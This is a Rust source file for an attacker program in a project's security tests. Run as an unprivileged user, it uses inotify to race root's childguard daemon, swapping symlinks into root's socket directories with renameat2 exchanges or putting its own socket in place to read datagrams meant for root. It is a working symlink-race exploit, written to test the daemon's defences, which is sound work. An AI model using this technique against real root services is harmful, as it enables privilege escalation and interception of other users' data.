//! The local attacker of the security tests (issue 49, `tests/tests/security/`): run as the
//! unprivileged user `childguard-attacker` against root's childguard, it does what that user
//! could do to root's private socket directories — the inotify wake-up, then a
//! `renameat2(RENAME_EXCHANGE)` or a rename.
//!
//! `cg-attacker --watch DIR... --on create|attrib|both --action ACTION [--target PATH]
//! [--links DIR] [--delay-us N]`
//!
//! It sleeps in a blocking inotify read on each `--watch` DIR and acts on every `--on` event
//! (`IN_CREATE`, `IN_ATTRIB`) of an entry named `childguard-…` (no dot: not its own names):
//!
//! - `swap-sock`: `renameat2(LINKS/.cg-attacker-N, DIR/NAME/sock, RENAME_EXCHANGE)`, a symlink to
//!   `--target` (the victim file) made beforehand in `--links` (a directory of its own on the
//!   same filesystem) — what succeeds once root has given it DIR/NAME and before root
//!   `chown`s `DIR/NAME/sock` by path. While the socket is not there yet (`ENOENT` with the
//!   directory there) it tries again, for up to 50 ms: it is turned away only by a refusal.
//! - `swap-dir`: `renameat2(DIR/.cg-attacker-N, DIR/NAME, RENAME_EXCHANGE)`, a symlink to
//!   `--target` (a directory of root's it picked) made beforehand in DIR, which must be its
//!   own: root's next step by path (`chmod`, `bind`, `chown`) lands in the target.
//! - `steal`: after `--delay-us` (default 300), renames DIR/NAME to `NAME.aside`, makes its own
//!   DIR/NAME and binds a datagram socket at DIR/NAME/sock, and reads what comes to it.
//!
//! For the swaps it runs one watcher thread per CPU, each pinned to its CPU with an inotify
//! instance and links of its own: whichever CPU root runs on, a watcher woken there may preempt
//! root before its next step. (Two successful exchanges of the same entry leave a symlink there
//! either way.)
//!
//! On stdout, one line each: `armed` once every watch is in place; `act EVENT PATH result=R
//! dir=UID:MODE|gone` for each try (`R`: `ok`, or the errno's name; `dir`: what the entry is
//! after the try — for `swap-dir` the directory swapped out when it succeeded);
//! `datagram PATH TEXT` for each datagram its stolen sockets receive; `overflow` when the
//! inotify queue overflowed. It runs until it is killed.

#![deny(unsafe_code)]

use std::os::fd::OwnedFd;
use std::os::unix::net::UnixDatagram;
use std::path::{Path, PathBuf};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use rustix::fs::inotify::{self, CreateFlags, ReadFlags, WatchFlags};
use rustix::fs::{AtFlags, Mode, OFlags, RenameFlags};
use rustix::io::Errno;
use rustix::thread::CpuSet;

/// What it does on an event.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Action {
    SwapSock,
    SwapDir,
    Steal,
}

/// How long `swap-sock` keeps trying while the socket is not there yet.
const SPIN: Duration = Duration::from_millis(50);

#[derive(Debug)]
struct Options {
    watch: Vec<PathBuf>,
    on: ReadFlags,
    action: Action,
    target: Option<PathBuf>,
    links: Option<PathBuf>,
    delay: Duration,
}

fn fail(what: &str) -> ! {
    eprintln!("cg-attacker: {what}");
    std::process::exit(2)
}

fn parse() -> Options {
    let mut options = Options {
        watch: Vec::new(),
        on: ReadFlags::empty(),
        action: Action::Steal,
        target: None,
        links: None,
        delay: Duration::from_micros(300),
    };
    let mut action = None;
    let mut args = std::env::args().skip(1);
    while let Some(flag) = args.next() {
        let value = args
            .next()
            .unwrap_or_else(|| fail(&format!("{flag} needs a value")));
        match flag.as_str() {
            "--watch" => options.watch.push(value.into()),
            "--on" => {
                options.on = match value.as_str() {
                    "create" => ReadFlags::CREATE,
                    "attrib" => ReadFlags::ATTRIB,
                    "both" => ReadFlags::CREATE | ReadFlags::ATTRIB,
                    _ => fail(&format!("--on {value}: create, attrib or both")),
                }
            }
            "--action" => {
                action = Some(match value.as_str() {
                    "swap-sock" => Action::SwapSock,
                    "swap-dir" => Action::SwapDir,
                    "steal" => Action::Steal,
                    _ => fail(&format!("--action {value}: swap-sock, swap-dir or steal")),
                })
            }
            "--target" => options.target = Some(value.into()),
            "--links" => options.links = Some(value.into()),
            "--delay-us" => {
                let us = value
                    .parse()
                    .unwrap_or_else(|_| fail(&format!("--delay-us {value}")));
                options.delay = Duration::from_micros(us);
            }
            _ => fail(&format!("unknown option {flag}")),
        }
    }
    options.action = action.unwrap_or_else(|| fail("no --action"));
    if options.watch.is_empty() || options.on.is_empty() {
        fail("--watch DIR and --on are needed");
    }
    if options.action != Action::Steal && options.target.is_none() {
        fail("swap-sock and swap-dir need --target");
    }
    if options.action == Action::SwapSock && options.links.is_none() {
        fail("swap-sock needs --links");
    }
    options
}

fn open_dir(path: &Path) -> OwnedFd {
    rustix::fs::open(
        path,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .unwrap_or_else(|e| fail(&format!("open {}: {e}", path.display())))
}

fn errno_name(e: Errno) -> String {
    match e {
        Errno::NOENT => "ENOENT".into(),
        Errno::ACCESS => "EACCES".into(),
        Errno::PERM => "EPERM".into(),
        Errno::NOTDIR => "ENOTDIR".into(),
        Errno::EXIST => "EEXIST".into(),
        Errno::INVAL => "EINVAL".into(),
        Errno::XDEV => "EXDEV".into(),
        Errno::ADDRINUSE => "EADDRINUSE".into(),
        other => format!("errno{}", other.raw_os_error()),
    }
}

fn result(r: &Result<(), Errno>) -> String {
    match r {
        Ok(()) => "ok".into(),
        Err(e) => errno_name(*e),
    }
}

/// `UID:MODE` of `name` in `dir` (not followed), or `gone`.
fn describe(dir: &OwnedFd, name: &str) -> String {
    match rustix::fs::statat(dir, name, AtFlags::SYMLINK_NOFOLLOW) {
        Ok(st) => format!("{}:{:o}", st.st_uid, st.st_mode & 0o7777),
        Err(_) => "gone".into(),
    }
}

/// The symlinks to `--target` it exchanges, one per success, made before they are needed.
struct Links {
    dir: OwnedFd,
    target: PathBuf,
    /// The watcher's index: each has links of its own.
    watcher: usize,
    next: u64,
}

impl Links {
    fn new(dir: OwnedFd, target: PathBuf, watcher: usize) -> Links {
        let mut links = Links {
            dir,
            target,
            watcher,
            next: 0,
        };
        links.make();
        links
    }

    fn name(&self) -> String {
        format!(
            ".cg-attacker-{}-{}-{}",
            std::process::id(),
            self.watcher,
            self.next
        )
    }

    fn make(&mut self) {
        rustix::fs::symlinkat(&self.target, &self.dir, self.name())
            .unwrap_or_else(|e| fail(&format!("symlink {}: {e}", self.name())));
    }

    /// The link was used: make the next.
    fn used(&mut self) {
        self.next += 1;
        self.make();
    }
}

fn main() {
    let options: &'static Options = Box::leak(Box::new(parse()));
    // One watcher per CPU (see the module doc); one for `steal`, whose delay makes that moot.
    let cpus: Vec<Option<usize>> = match options.action {
        Action::Steal => vec![None],
        _ => {
            let set = rustix::thread::sched_getaffinity(None)
                .unwrap_or_else(|e| fail(&format!("sched_getaffinity: {e}")));
            (0..CpuSet::MAX_CPU)
                .filter(|&cpu| set.is_set(cpu))
                .map(Some)
                .collect()
        }
    };
    let (armed, watchers_armed) = mpsc::channel();
    for (index, cpu) in cpus.iter().enumerate() {
        let (cpu, armed) = (*cpu, armed.clone());
        std::thread::spawn(move || watcher(options, index, cpu, armed));
    }
    drop(armed);
    for _ in &cpus {
        if watchers_armed.recv().is_err() {
            fail("a watcher ended before it was armed");
        }
    }
    println!("armed");
    loop {
        std::thread::park();
    }
}

/// One watcher: its own inotify instance and links, pinned to `cpu`; says on `armed` when its
/// watches are in place, then acts on events until the process is killed.
fn watcher(options: &Options, index: usize, cpu: Option<usize>, armed: mpsc::Sender<()>) {
    if let Some(cpu) = cpu {
        let mut set = CpuSet::new();
        set.set(cpu);
        rustix::thread::sched_setaffinity(None, &set)
            .unwrap_or_else(|e| fail(&format!("sched_setaffinity {cpu}: {e}")));
    }
    let target = options.target.clone().unwrap_or_default();
    let inotify = inotify::init(CreateFlags::CLOEXEC)
        .unwrap_or_else(|e| fail(&format!("inotify_init1: {e}")));
    let mut watched: Vec<(i32, PathBuf, OwnedFd, Option<Links>)> = Vec::new();
    let sock_links = options
        .links
        .as_ref()
        .map(|dir| Links::new(open_dir(dir), target.clone(), index));
    for dir in &options.watch {
        let wd = inotify::add_watch(
            &inotify,
            dir,
            WatchFlags::CREATE | WatchFlags::ATTRIB | WatchFlags::ONLYDIR,
        )
        .unwrap_or_else(|e| fail(&format!("inotify_add_watch {}: {e}", dir.display())));
        let links = (options.action == Action::SwapDir)
            .then(|| Links::new(open_dir(dir), target.clone(), index));
        watched.push((wd, dir.clone(), open_dir(dir), links));
    }
    let mut sock_links = sock_links;
    let _ = armed.send(());
    let mut buf = [std::mem::MaybeUninit::uninit(); 8192];
    let mut reader = inotify::Reader::new(&inotify, &mut buf);
    loop {
        let event = match reader.next() {
            Ok(event) => event,
            Err(Errno::INTR) => continue,
            Err(e) => fail(&format!("reading inotify: {e}")),
        };
        if event.events().contains(ReadFlags::QUEUE_OVERFLOW) {
            println!("overflow");
            continue;
        }
        let kind = if event.events().contains(ReadFlags::CREATE) {
            "create"
        } else {
            "attrib"
        };
        if !event.events().intersects(options.on) {
            continue;
        }
        let Some(name) = event.file_name() else {
            continue;
        };
        let name = String::from_utf8_lossy(name.to_bytes()).into_owned();
        if !name.starts_with("childguard-") || name.contains('.') {
            continue;
        }
        let Some((_, base, base_fd, dir_links)) =
            watched.iter_mut().find(|(wd, ..)| *wd == event.wd())
        else {
            continue;
        };
        let (base, base_fd) = (&*base, &*base_fd);
        let path = base.join(&name);
        let (r, dir) = match options.action {
            Action::SwapSock => {
                let links = sock_links.as_mut().expect("--links");
                let sock = format!("{name}/sock");
                let began = Instant::now();
                let mut r = swap(&links.dir, &links.name(), base_fd, &sock);
                // The directory is there but the socket not yet: try again until it is, or
                // until something refuses.
                while r == Err(Errno::NOENT)
                    && began.elapsed() < SPIN
                    && rustix::fs::statat(base_fd, name.as_str(), AtFlags::SYMLINK_NOFOLLOW).is_ok()
                {
                    r = swap(&links.dir, &links.name(), base_fd, &sock);
                }
                if r.is_ok() {
                    links.used();
                }
                (r, describe(base_fd, &name))
            }
            Action::SwapDir => {
                let links = dir_links.as_mut().expect("links in the watched directory");
                let link = links.name();
                let r = swap(base_fd, &link, base_fd, &name);
                let dir = match r {
                    Ok(()) => describe(base_fd, &link),
                    Err(_) => describe(base_fd, &name),
                };
                if r.is_ok() {
                    links.used();
                }
                (r, dir)
            }
            Action::Steal => {
                std::thread::sleep(options.delay);
                let r = steal(base_fd, base, &name);
                (r, describe(base_fd, &name))
            }
        };
        println!(
            "act {kind} {} result={} dir={dir}",
            path.display(),
            result(&r)
        );
    }
}

fn swap(from_dir: &OwnedFd, from: &str, to_dir: &OwnedFd, to: &str) -> Result<(), Errno> {
    rustix::fs::renameat_with(from_dir, from, to_dir, to, RenameFlags::EXCHANGE)
}

/// Root's directory aside, its own in its place, and a socket there that reads what comes.
fn steal(base_fd: &OwnedFd, base: &Path, name: &str) -> Result<(), Errno> {
    rustix::fs::renameat(base_fd, name, base_fd, format!("{name}.aside"))?;
    rustix::fs::mkdirat(base_fd, name, Mode::from_raw_mode(0o755))?;
    let path = base.join(name).join("sock");
    let socket = UnixDatagram::bind(&path).map_err(|e| {
        Errno::from_raw_os_error(e.raw_os_error().unwrap_or(Errno::INVAL.raw_os_error()))
    })?;
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok(n) = socket.recv(&mut buf) {
            let text = String::from_utf8_lossy(&buf[..n]).replace('\n', " ");
            println!("datagram {} {text}", path.display());
        }
    });
    Ok(())
}
